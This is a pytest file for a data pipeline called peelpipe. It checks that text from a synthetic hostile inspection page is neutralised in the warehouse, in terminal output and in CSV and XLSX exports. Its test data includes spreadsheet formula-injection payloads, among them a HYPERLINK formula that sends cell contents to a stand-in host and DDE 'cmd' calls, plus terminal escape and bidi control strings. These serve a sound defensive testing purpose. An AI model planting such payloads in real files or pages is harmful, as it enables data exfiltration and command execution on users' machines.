"""Safe output (issue 15, item 5): text from a hostile page never becomes a formula in a spreadsheet,
a control sequence on a terminal, or a control character in the warehouse. See docs/faults.md.

The site is the synthetic force *testshire*, PEEL 2017: a landing page and an efficiency page whose
findings start like spreadsheet formulas and carry terminal escapes, NUL, C1 and bidi controls.
"""

from __future__ import annotations

import csv
import gzip
import shutil
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sites import landing_page, local_catalogue, pillar_page, write_page

from peelpipe import pipeline
from peelpipe.cli import main
from peelpipe.samplesite import serve_site
from peelpipe.warehouse.views import write_views

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?d="&A1,"Click to verify")',
    "+cmd|' /C calc'!A0 and more to do",
    "@SUM(1+1)*cmd|' /C calc'!A0 and more to do",
    "-2+3+cmd|' /C calc'!A0 and more to do",
]
# Findings with control characters, as served (raw, or as character references), and as stored.
CONTROLLED = {
    "\x1b]0;pwned\x07Window title set": "]0;pwnedWindow title set",
    "\x1b[31mRed text\x1b[0m here": "[31mRed text[0m here",
    "Eight-bit \x9b31mCSI": "Eight-bit 31mCSI",
    "Referenced &#27;[32mescape&#7;": "Referenced [32mescape",
    "Reads \u202ebackwards\u202c and \u2066isolated\u2069": "Reads backwards and isolated",
    "A NUL&#0; by reference, a DEL\x7f, a backspace\x08": "A NUL\ufffd by reference, a DEL, a backspace",
}
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\x00")
# Control characters: C0, DEL, C1, and the bidi controls (ALM, LRM, RLM, LRE-RLO, LRI-PDI).
CONTROLS = {chr(c) for c in [*range(0x20), *range(0x7F, 0xA0), 0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F)]}
CONTROLS |= {chr(c) for c in range(0x2066, 0x206A)}
EFFICIENCY = "/peel-assessments/peel-2017/testshire/efficiency/"


def hostile_site(tmp_path: Path) -> Path:
    """The synthetic force's 2017 landing page, and an efficiency page with hostile findings and a
    question whose wording holds a bidi override and a NUL byte."""
    root = tmp_path / "site"
    root.mkdir()
    (root / "robots.txt").write_text("User-agent: *\nAllow: /\n")
    headline = "The extent to which the constabulary is {} at keeping people safe and reducing crime is good."
    write_page(
        root,
        "/peel-assessments/peel-2017/testshire/",
        landing_page("Testshire 2017", [headline.format(w) for w in ("effective", "efficient", "legitimate")]),
    )
    items = "".join(f"<li>{text}</li>" for text in [*FORMULAS, *CONTROLLED])
    findings = f"It is good.</p><h3>Areas for improvement</h3><ul>{items}</ul><p>Synthetic test page."
    write_page(
        root,
        EFFICIENCY,
        pillar_page(
            "Testshire PEEL 2017",
            [
                ("How efficient is the force at keeping people safe and reducing crime?", "Good", findings),
                ("How well does the force understand\u202e demand?\x00", "Good", "It understands demand."),
                ("How well is the force planning for the future?", "Requires improvement", "More to do."),
            ],
        ),
    )
    return root


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse published from the hostile site; the config (with testshire) beside it."""
    tmp_path = tmp_path_factory.mktemp("safe")
    root = hostile_site(tmp_path)
    with serve_site(root) as site:
        catalogue = local_catalogue(tmp_path, site.url, synthetic=True)
        pipeline.run_pipeline(catalogue, ["2017"], ["testshire"])
    return Path(catalogue.settings.warehouse)


@pytest.fixture
def cli(warehouse: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Any:
    """peelpipe's command line on the hostile warehouse: returns what a command printed."""
    monkeypatch.setenv("PEELPIPE_CONFIG_DIR", str(warehouse.parent / "config"))

    def run(*args: str, wh: Path = warehouse) -> str:
        capsys.readouterr()
        assert main([*args, "--warehouse", str(wh)]) == 0
        return capsys.readouterr().out

    return run


def findings(warehouse: Path) -> list[str]:
    return [f["text"] for f in pipeline.Warehouse(warehouse).read_table("findings")]


def test_parsed_text_holds_no_control_characters_and_the_archive_keeps_the_bytes(warehouse: Path) -> None:
    tables = pipeline.Warehouse(warehouse).read_all()
    dirty = [
        (name, key, value)
        for name, rows in tables.items()
        for row in rows
        for key, value in row.items()
        if isinstance(value, str) and any(c in CONTROLS for c in value)
    ]
    assert dirty == []
    assert sorted(findings(warehouse)) == sorted([*FORMULAS, *CONTROLLED.values()])
    # The question with a bidi override and a NUL still maps to its area, and is graded.
    grades = {j["area_id"]: j["grade"] for j in tables["judgements"]}
    assert grades["efficiency.understanding-demand"] == "good"
    labels = {o["area_label"] for o in tables["observations"]}
    assert "How well does the force understand demand?" in labels
    bodies = [gzip.decompress(p.read_bytes()) for p in (warehouse / "raw").rglob("*.gz")]
    assert any(b"\x1b[31mRed text" in body and "\u202e".encode() in body for body in bodies)


def test_xlsx_cells_are_text_never_formulas(cli: Any, warehouse: Path) -> None:
    path = cli("export", "--format", "xlsx").strip()
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["findings"]
    header = [c.value for c in sheet[1]]
    cells = {c.value: c for c in (row[header.index("text")] for row in sheet.iter_rows(min_row=2))}
    assert set(FORMULAS) <= set(cells)
    assert {text: cells[text].data_type for text in FORMULAS} == dict.fromkeys(FORMULAS, "s")
    assert not [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    runs = workbook["runs"]
    requests = [c for c in runs[1] if c.value == "requests"][0].column
    assert runs.cell(row=2, column=requests).data_type == "n"  # numbers stay numbers


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_export_quotes_text_that_starts_like_a_formula_and_raw_csv_turns_it_off(cli: Any, tmp_path: Path) -> None:
    folder = Path(cli("export", "--format", "csv", "--out", str(tmp_path / "guarded")).strip())
    texts = {r["text"] for r in read_csv(folder / "findings.csv")}
    assert {"'" + f for f in FORMULAS} <= texts and not texts & set(FORMULAS)
    assert "[31mRed text[0m here" in texts  # other text unchanged
    run = read_csv(folder / "runs.csv")[0]
    assert run["requests"].isdigit() and run["started_at"][:2] == "20"  # numbers and times unchanged
    raw = Path(cli("export", "--format", "csv", "--raw-csv", "--out", str(tmp_path / "raw")).strip())
    assert set(FORMULAS) <= {r["text"] for r in read_csv(raw / "findings.csv")}


def test_sql_csv_quotes_text_that_starts_like_a_formula_but_never_a_number(cli: Any) -> None:
    query = "SELECT -2 AS n, -2.5 AS x, '-2+3' AS s, text FROM findings WHERE text LIKE '=%'"
    guarded = list(csv.reader(cli("sql", "--format", "csv", query).splitlines()))
    assert guarded == [["n", "x", "s", "text"], ["-2", "-2.5", "'-2+3", "'" + FORMULAS[0]]]
    raw = list(csv.reader(cli("sql", "--format", "csv", "--raw-csv", query).splitlines()))
    assert raw == [["n", "x", "s", "text"], ["-2", "-2.5", "-2+3", FORMULAS[0]]]


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
def test_every_formula_lead_is_guarded_and_only_in_text(lead: str) -> None:
    from peelpipe.warehouse.export import guard_cell

    assert guard_cell(lead + "1+1") == "'" + lead + "1+1"
    assert guard_cell("a" + lead) == "a" + lead
    assert [guard_cell(v) for v in (-2, -2.5, None, True)] == [-2, -2.5, None, True]


HOSTILE = "\x1b]0;pwned\x07\x1b[31mred\x1b[0m \x9b31m \u202eevil\x00"


@pytest.fixture
def old_warehouse(warehouse: Path, tmp_path: Path) -> Path:
    """A warehouse whose text still holds control characters (written by hand, or before parsers
    removed them): the hostile warehouse's tables republished with HOSTILE in page-derived text."""
    copy = tmp_path / "warehouse"
    shutil.copytree(warehouse, copy)
    store = pipeline.Warehouse(copy)
    tables = store.read_all()
    for row in tables["findings"]:
        row["text"] = HOSTILE + row["text"]
    for row in tables["changes"]:
        row["area_id"] = HOSTILE
    for row in tables["parse_issues"]:
        row["reason"] = HOSTILE
    for row in tables["runs"]:
        row["scope"] = HOSTILE
    write_views(copy, store.publish(tables, "hand-written"))
    return copy


def assert_no_raw_controls(text: str) -> None:
    assert [c for c in RAW if c in text] == []


def test_sql_table_output_escapes_control_characters(cli: Any, old_warehouse: Path) -> None:
    out = cli("sql", "SELECT text FROM findings ORDER BY text", wh=old_warehouse)
    assert_no_raw_controls(out)
    assert "\\u202eevil" in out and "\\x9b31m" in out  # shown, not obeyed
    assert_no_raw_controls(cli("sql", "--format", "json", "SELECT text FROM findings", wh=old_warehouse))


def test_changes_and_status_output_escape_control_characters(cli: Any, old_warehouse: Path) -> None:
    changes = cli("changes", wh=old_warehouse)
    assert "\\x1b[31mred" in changes
    assert_no_raw_controls(changes)
    assert_no_raw_controls(cli("changes", "--json", wh=old_warehouse))
    status = cli("status", wh=old_warehouse)
    assert "\\x1b]0;pwned\\x07" in status
    assert_no_raw_controls(status)


def test_escaped_text_keeps_its_lines_and_shows_every_other_control() -> None:
    from peelpipe.safetext import escape_controls

    assert escape_controls("line one\nline\ttwo\r\x1b[0m\u202e") == "line one\nline\\ttwo\\r\\x1b[0m\\u202e"


def test_xlsx_export_of_a_warehouse_holding_control_characters_drops_what_xlsx_cannot_hold(
    cli: Any, old_warehouse: Path
) -> None:
    workbook = openpyxl.load_workbook(cli("export", "--format", "xlsx", wh=old_warehouse).strip())
    texts = [c.value for row in workbook["findings"].iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert any(t.startswith("]0;pwned[31mred[0m \x9b31m \u202eevil") for t in texts)
    assert not [t for t in texts if any(c in t for c in "\x1b\x07\x00")]
